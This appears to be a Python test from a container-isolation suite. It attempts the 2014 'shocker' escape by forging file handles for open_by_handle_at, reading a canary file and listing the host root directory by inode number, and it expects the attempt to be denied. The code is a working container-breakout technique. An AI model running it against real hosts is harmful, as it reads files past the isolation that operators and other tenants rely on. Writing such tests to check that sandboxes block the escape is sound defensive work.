"""Opens a file by its number in the file system, past every name and mount.

The way out of early containers ("shocker", 2014): any bind mount of the same file system is enough.
"""

# /// attack
# threat = "read host files"
# expect = ["denied", "absent"]
# canary = ["file-read"]
# prove = { as = "root" }
# ///

import ctypes
import errno
import os
import struct

from attack import canary, must_be_secret, run
from kernel import call

AT_FDCWD = -100


def handle_of(path: str) -> "ctypes.Array[ctypes.c_char]":
    handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 8 + 128)
    mount = ctypes.c_int()
    call("name_to_handle_at", AT_FDCWD, path.encode(), handle, ctypes.byref(mount), 0)
    return handle


def known_name() -> str:
    place = os.open(".", os.O_RDONLY)
    fd = call("open_by_handle_at", place, handle_of(canary("FILE")), os.O_RDONLY)
    return must_be_secret(os.read(fd, 4096))


def guessed_number() -> str:
    # The handle of a file of one's own, with another file's number in it: here the root directory's, 2.
    handle = handle_of(".")
    struct.pack_into("II", handle, 8, 2, 0)
    fd = call("open_by_handle_at", os.open(".", os.O_RDONLY), handle, os.O_RDONLY | os.O_DIRECTORY)
    return f"opened the root of the file system: {sorted(os.listdir(fd))[:4]}"


run(known_name, guessed_number, denied=[errno.EOPNOTSUPP, errno.ESTALE], absent=[errno.ENOENT])
